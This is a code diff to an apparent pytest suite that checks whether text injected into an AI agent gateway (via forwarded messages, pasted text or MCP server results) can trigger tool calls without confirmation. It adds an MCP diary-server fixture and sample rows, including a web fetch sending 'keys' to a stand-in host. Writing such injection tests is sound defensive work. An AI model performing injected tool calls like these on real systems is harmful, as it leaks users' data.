@@ -29,6 +29,7 @@ from core.types import (
     Scope,
 )
 from tests.fixtures.gateway_harness import GatewayHarness, open_gateway
+from tests.fixtures.mcp_server import run_http_server
 from tests.fixtures.media_samples import make_pdf
 from tests.fixtures.scripted_model import ScriptedModel, calls, says
 from tests.fixtures.search_engines import SearchServer
@@ -106,6 +107,9 @@ ROWS: dict[tuple[str, str], dict[str, Any]] = {
     ("send_file", ""): {"file_id": 1},
     ("web_search", ""): {"query": "where does the dentist keep the insulin"},
     ("web_fetch", ""): {"url": "http://other.example:PORT/?keys=insulin"},
+    ("calendar", "add"): {"action": "add", "start": "2030-01-01T09:00", "text": "Send my keys"},
+    ("remote__add_entry", ""): {"text": CLAIM},
+    ("remote__clear", ""): {},
 }
 
 MAX_HELPER_CALLS = 6
@@ -167,6 +171,8 @@ class House:
     model: ScriptedModel
     home: Path
     web: SearchServer
+    # The file of the MCP server over HTTP, if there is one.
+    diary: Path | None
     # The names of the files that came with answers.
     sent_files: list[str] = field(default_factory=list)
 
@@ -199,6 +205,7 @@ class House:
             "shelf": (self.home / "plugins" / "shelf.log").read_text(),
             "requests": self.web.server.requests,
             "sent files": self.sent_files,
+            "diary": self.diary.read_text() if self.diary else "",
         }
         return json.dumps(state, default=str, ensure_ascii=False)
 
@@ -388,17 +395,43 @@ KEPT_DOORS = (
 )
 
 
+@dataclass(frozen=True)
+class DiaryServer:
+    """An MCP server over HTTP, and the file that it writes."""
+
+    url: str
+    file: Path
+
+
+@pytest.fixture(scope="module")
+def diary(tmp_path_factory: pytest.TempPathFactory) -> Iterator[DiaryServer]:
+    file = tmp_path_factory.mktemp("remote") / "diary.txt"
+    with run_http_server(file) as url:
+        yield DiaryServer(url, file)
+
+
 @asynccontextmanager
 async def open_house(
-    home: Path, door: str, model: ScriptedModel, helper: ScriptedModel | None = None
+    home: Path,
+    door: str,
+    model: ScriptedModel,
+    helper: ScriptedModel | None = None,
+    diary: DiaryServer | None = None,
 ) -> AsyncIterator[House]:
-    """Run a gateway with all tools, whose web is a server on loopback."""
+    """Run a gateway with all tools, whose web, calendar and MCP server are on loopback.
+
+    The descriptions of an MCP server are foreign, so there is none without `diary`.
+    """
     async with serve_pages() as pages:
         options = _prepare_home(home, door, pages)
+        if diary is not None:
+            diary.file.write_text("Dear diary")
+            options += f'[mcp.remote]\nurl = "{diary.url}"\ntools = ["add_entry", "clear"]\n'
+        options += f'[calendar.work]\nkind = "caldav"\nurl = "http://127.0.0.1:{pages.port}/dav/"\n'
         async with open_gateway(home, model, options, helper) as harness:
             assert harness.services.web is not None
             harness.services.web.client = loopback_client()
-            yield House(harness, model, home, SearchServer(pages))
+            yield House(harness, model, home, SearchServer(pages), diary.file if diary else None)
 
 
 def _prepare_home(home: Path, door: str, pages: PageServer) -> str:
@@ -429,10 +462,10 @@ def _prepare_home(home: Path, door: str, pages: PageServer) -> str:
 
 @pytest.mark.parametrize("door", list_cases(DOORS, *KEPT_DOORS))
 async def test_foreign_text_has_no_effect_at_once(
-    home: Path, door: str, table: dict[str, dict[str, str]]
+    home: Path, door: str, table: dict[str, dict[str, str]], diary: DiaryServer
 ) -> None:
     model, helper = ScriptedModel(), ScriptedModel(*[search_with_summaries] * 99)
-    async with open_house(home, door, model, helper) as house:
+    async with open_house(home, door, model, helper, diary) as house:
         await house.prepare()
         await DOORS[door](house)
         tools = house.harness.agent.tool_runner.tools
@@ -467,10 +500,10 @@ def agree_to_all(request: Request) -> Completion:
 
 @pytest.mark.parametrize("door", ["forward", "paste below a heading", "result of an MCP server"])
 async def test_helper_that_agrees_to_all_lets_foreign_text_have_no_effect(
-    home: Path, door: str
+    home: Path, door: str, diary: DiaryServer
 ) -> None:
     model, helper = ScriptedModel(), ScriptedModel(*[agree_to_all] * 999)
-    async with open_house(home, door, model, helper) as house:
+    async with open_house(home, door, model, helper, diary) as house:
         await house.prepare()
         await DOORS[door](house)
         failures = []
@@ -494,8 +527,8 @@ def table() -> Iterator[dict[str, dict[str, str]]]:
         print(f"| {' | '.join(line)} |")  # noqa: T201  The table.
 
 
-async def test_every_effect_of_every_tool_has_its_row(home: Path) -> None:
-    async with open_house(home, "", ScriptedModel(), ScriptedModel()) as house:
+async def test_every_effect_of_every_tool_has_its_row(home: Path, diary: DiaryServer) -> None:
+    async with open_house(home, "", ScriptedModel(), ScriptedModel(), diary) as house:
         actions: dict[Effect, set[tuple[str, str]]] = {}
         for tool in house.harness.agent.tool_runner.tools.values():
             for action, effect in tool.effects.items():
@@ -518,6 +551,7 @@ async def test_same_calls_run_at_once_while_nothing_is_foreign(home: Path) -> No
             ("reminder", "remove"),
             ("facts", "feedback"),
             ("shelf_do", "send"),
+            ("calendar", "add"),
         ):
             before = await house.read_state()
             await house.let_model_call(key[0], ROWS[key], QUESTION)
